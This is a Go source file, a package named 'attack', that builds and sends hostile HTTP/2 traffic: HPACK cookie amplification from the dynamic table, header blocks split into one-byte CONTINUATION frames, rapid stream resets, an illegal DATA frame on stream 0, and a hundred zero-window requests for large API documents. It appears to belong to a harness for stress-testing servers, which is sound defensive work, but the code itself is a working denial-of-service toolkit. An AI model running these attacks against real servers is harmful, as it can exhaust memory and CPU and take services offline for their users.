package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// maxFrame is the largest frame that every server accepts.
const maxFrame = 16 << 10

// block returns the header block of a GET.
func block(path string, fields ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	encoder := hpack.NewEncoder(&b)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "x"}, {Name: ":path", Value: path},
	}, fields...) {
		_ = encoder.WriteField(f) // a buffer returns no error
	}
	return b.Bytes()
}

// headers appends a request with a header block in fragments of the given size.
func headers(f *http2.Framer, stream uint32, block []byte, fragment int) error {
	first := block[:min(fragment, len(block))]
	rest := block[len(first):]
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndStream: true, EndHeaders: len(rest) == 0}); err != nil {
		return err
	}
	for len(rest) > 0 {
		next := rest[:min(fragment, len(rest))]
		rest = rest[len(next):]
		if err := f.WriteContinuation(stream, len(rest) == 0, next); err != nil {
			return err
		}
	}
	return nil
}

// open connects and sends the frames in one write.
func (s *Site) open(ctx context.Context, settings []http2.Setting, frames func(*http2.Framer) error) (*tls.Conn, error) {
	var b bytes.Buffer
	b.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&b, nil)
	if err := framer.WriteSettings(settings...); err != nil {
		return nil, err
	}
	if err := frames(framer); err != nil {
		return nil, err
	}
	conn, err := s.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	if err := conn.SetDeadline(time.Now().Add(patience)); err != nil {
		_ = conn.Close() // the first error is returned
		return nil, err
	}
	if _, err := conn.Write(b.Bytes()); err != nil {
		_ = conn.Close()
		return nil, err
	}
	return conn, nil
}

// move is one attack on its own connection. It is over when the server has answered its
// frames or closed the connection.
type move struct {
	frames func(i int, f *http2.Framer) error
	// silent frames have no answer, so a ping follows them.
	silent bool
}

// eachAnew makes its moves in turn.
type eachAnew struct {
	site  *Site
	moves []move
}

func (c *eachAnew) attack(ctx context.Context, i int) error {
	m := c.moves[i%len(c.moves)]
	conn, err := c.site.open(ctx, nil, func(f *http2.Framer) error {
		if err := m.frames(i, f); err != nil {
			return err
		}
		return f.WritePing(false, [8]byte{})
	})
	if err != nil {
		return err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Unix(1, 0)) })()
	answers := http2.NewFramer(io.Discard, conn)
	for {
		frame, err := answers.ReadFrame()
		if err != nil {
			if ctx.Err() != nil {
				return errCutOff
			}
			return nil // the server has closed the connection
		}
		switch f := frame.(type) {
		case *http2.GoAwayFrame, *http2.RSTStreamFrame:
			return nil
		case *http2.PingFrame:
			if m.silent {
				return nil
			}
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				return nil
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				return nil
			}
		}
	}
}

func (c *eachAnew) close() {}

// cookies sends fields of one byte each, repeated from the dynamic table. Their size counts
// less than the limit of a header list.
func cookies(_ int, f *http2.Framer) error {
	const lastOfTable = "\xbe"
	b := block("/version", hpack.HeaderField{Name: "cookie", Value: "a=b"})
	return headers(f, 1, append(b, strings.Repeat(lastOfTable, 19_999)...), maxFrame)
}

// fragments sends a header block in fragments of one byte.
func fragments(i int, f *http2.Framer) error {
	value := fmt.Sprintf("%08d", i) + strings.Repeat("~", 8000) // not shortened by Huffman coding
	return headers(f, 1, block("/version", hpack.HeaderField{Name: "x-long", Value: value, Sensitive: true}), 1)
}

// resets cancels a hundred requests immediately.
func resets(_ int, f *http2.Framer) error {
	for i := range uint32(100) {
		b := block(forbidden, hpack.HeaderField{Name: "x-index", Value: fmt.Sprint(i), Sensitive: true})
		if err := headers(f, 2*i+1, b, maxFrame); err != nil {
			return err
		}
		if err := f.WriteRSTStream(2*i+1, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// broken sends a request and a frame that ends the connection with a GOAWAY.
func broken(_ int, f *http2.Framer) error {
	if err := headers(f, 1, block(forbidden), maxFrame); err != nil {
		return err
	}
	f.AllowIllegalWrites = true
	return f.WriteData(0, false, []byte("for no stream"))
}

// unread requests a hundred large documents with windows that have no room for them.
type unread struct {
	site *Site
	conn *tls.Conn
}

func (c *unread) attack(ctx context.Context, _ int) error {
	var err error
	c.conn, err = c.site.open(ctx, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(f *http2.Framer) error {
		for i := range uint32(100) {
			b := block("/openapi/v2", hpack.HeaderField{Name: "authorization", Value: "Bearer " + c.site.Nobody, Sensitive: true})
			if err := headers(f, 2*i+1, b, maxFrame); err != nil {
				return err
			}
		}
		return nil
	})
	return err
}

func (c *unread) close() {
	if c.conn != nil {
		_ = c.conn.Close() // no longer needed
	}
}
